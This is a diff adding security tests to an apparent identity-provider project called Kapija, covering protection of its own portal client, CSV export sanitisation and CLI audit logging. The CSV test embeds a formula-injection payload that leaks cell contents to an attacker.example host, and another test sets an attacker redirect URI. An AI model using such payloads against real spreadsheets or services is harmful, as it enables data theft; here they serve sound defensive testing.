@@ -4,15 +4,21 @@
  * all, releases of personal data that never leave without their ledger entry, administrators' reads
  * and CLI changes in the trail, Kapija's own clients out of reach, and CSV exports without formulas.
  */
+import { Readable } from 'node:stream';
+import { randomBytes } from 'node:crypto';
 import request from 'supertest';
 import * as oidc from 'openid-client';
 import { Agent } from '../support/browserless.js';
 import { signIn } from '../support/sign-in.js';
-import { stores } from '../support/databases.js';
-import { createTestAccount, createTestClient, startKapija, testService, type RunningKapija } from '../support/kapija.js';
+import { createTestDatabase, stores } from '../support/databases.js';
+import { createTestAccount, createTestClient, startKapija, testService, TEST_ENV, type RunningKapija } from '../support/kapija.js';
 import { createRoleRepository } from '../../src/store/roles.js';
 import { isPostgres } from '../../src/store/db.js';
 import { ledgerEntries } from '../../src/account/ledger.js';
+import { runCli } from '../../src/cli/index.js';
+import { openHandles } from '../../src/app.js';
+import { loadConfig } from '../../src/config.js';
+import { createAuditLog } from '../../src/store/audit.js';
 import type { Kapija } from '../../src/app.js';
 
 const HIGH = 'http://eidas.europa.eu/LoA/high';
@@ -204,5 +210,99 @@ describe.each(stores())('audited changes and releases on %s', (store) => {
     expect(((await released.json()) as { email?: string }).email).toBe(svc.citizen.account.email);
     const ledger = await server.kapija.audit.list({ chain: `account:${svc.citizen.account.id}`, action: 'ledger.data_released' });
     expect(ledger.map((e) => e.details.channel)).toContain('userinfo');
+  });
+});
+
+describe('Kapija’s own clients', () => {
+  let server: RunningKapija;
+  beforeAll(async () => {
+    server = await startKapija();
+  });
+  afterAll(async () => {
+    await server?.stop();
+  });
+
+  test('OWASP ASVS 5.0 V8.2.1 / RFC 7591 §2: the account portal’s own client (kapija-account) cannot be changed, disabled, re-keyed or deleted through the admin API', async () => {
+    const { kapija } = server;
+    const admin = await adminOf(kapija);
+    const script = await createTestClient(kapija, { scope: 'openid kapija:admin' });
+    const auth = { authorization: `Bearer ${await mint(kapija, admin.account.id, script.clientId)}`, 'accept-language': 'en' };
+    const before = await kapija.clients.find('kapija-account');
+    expect(before).toBeDefined();
+    const api = () => request(kapija.app.callback());
+    const attempts = [
+      api().patch('/admin/api/clients/kapija-account').set(auth).send({ redirect_uris: ['https://attacker.example/cb'] }),
+      api().post('/admin/api/clients/kapija-account/secret').set(auth),
+      api().post('/admin/api/clients/kapija-account/disable').set(auth),
+      api().delete('/admin/api/clients/kapija-account').set(auth),
+    ];
+    for (const res of await Promise.all(attempts)) {
+      expect(res.status).toBe(409);
+      expect(res.body.error).toBe('admin.client.protected');
+      expect(res.body.error_description).toMatch(/account portal/);
+    }
+    expect(await kapija.clients.find('kapija-account')).toEqual(before);
+  });
+});
+
+describe('CSV exports', () => {
+  let clock = Date.now();
+  let server: RunningKapija;
+  beforeAll(async () => {
+    server = await startKapija({ env: { OPEN_DATA_MIN_COUNT: '1' }, options: { now: () => clock } });
+  });
+  afterAll(async () => {
+    await server?.stop();
+  });
+
+  test('OWASP CSV Injection / CWE-1236: a service name or id that a spreadsheet would run as a formula is neutralised in the citizen’s activity export and in open data', async () => {
+    const formula = '=HYPERLINK("https://attacker.example/?leak="&A2,"open")';
+    const svc = await testService(server, { client_id: `-2-3-${randomBytes(3).toString('hex')}`, client_name: formula });
+    const agent = new Agent('en');
+    await signIn(agent, svc.authorize({ scope: 'openid' }), svc.redirect, svc.citizen);
+
+    let page = await agent.request(new URL('/account', server.url));
+    if (page.status === 303) {
+      const back = await agent.request(await signIn(agent, new URL(page.headers.get('location')!), `${server.url}/account/callback`, svc.citizen));
+      page = await agent.request(new URL(back.headers.get('location')!, server.url));
+    }
+    expect(page.status).toBe(200);
+    const csv = (await agent.request(new URL('/account/activity/export?format=csv', server.url))).body;
+    expect(csv).toContain(`"'${formula.replace(/"/g, '""')}"`);
+    expect(csv).toContain(`"'${svc.rp.clientId}"`);
+    expect(csv).not.toMatch(/(^|,)"?[=+@-]/m);
+
+    clock += 24 * 3600 * 1000;
+    const open = await (await fetch(`${server.url}/open-data/signins-by-service.csv`)).text();
+    expect(open).toContain(`,'${svc.rp.clientId},`);
+    expect(open).not.toMatch(/(^|,)[=+@-]/m);
+  });
+});
+
+describe.each(stores())('CLI changes in the trail on %s', (store) => {
+  test('OWASP ASVS 5.0 V16.2.1 / NIST 800-53 AU-2: client create, user create, user totp-import and keys rotate are recorded with actor cli', async () => {
+    const db = await createTestDatabase(store);
+    try {
+      const env = { ...TEST_ENV, MASTER_KEY: randomBytes(32).toString('base64'), ...db.env };
+      const run = (argv: string[], stdin = '') => runCli(argv, env, { stdout: () => {}, stderr: () => {}, stdin: Readable.from(stdin ? [stdin] : []) });
+      expect(await run(['migrate'])).toBe(0);
+      expect(await run(['client', 'create', '--client-id', 'cli-made', '--redirect-uri', 'https://rp.example/cb'])).toBe(0);
+      expect(await run(['user', 'create', '--username', 'cli-citizen'], 'a long enough password 1')).toBe(0);
+      expect(await run(['user', 'totp-import', '--username', 'cli-citizen', '--seed', 'JBSWY3DPEHPK3PXPJBSWY3DP'])).toBe(0);
+      expect(await run(['keys', 'rotate'])).toBe(0);
+      const h = openHandles(loadConfig(env));
+      try {
+        const trail = await createAuditLog(h.db).list({ chain: 'admin', actor: 'cli' });
+        const account = await h.accounts.findByUsername('cli-citizen');
+        expect(trail.map((e) => e.action).sort()).toEqual(['admin.account.created', 'admin.account.totp_imported', 'admin.client.created', 'admin.keys.rotated']);
+        expect(trail.find((e) => e.action === 'admin.client.created')?.clientId).toBe('cli-made');
+        expect(trail.filter((e) => e.action.startsWith('admin.account.')).map((e) => e.subjectAccountId)).toEqual([account!.id, account!.id]);
+        expect(JSON.stringify(trail)).not.toMatch(/JBSWY3DP|long enough password/);
+      } finally {
+        await h.db.destroy();
+      }
+    } finally {
+      await db.drop();
+    }
   });
 });
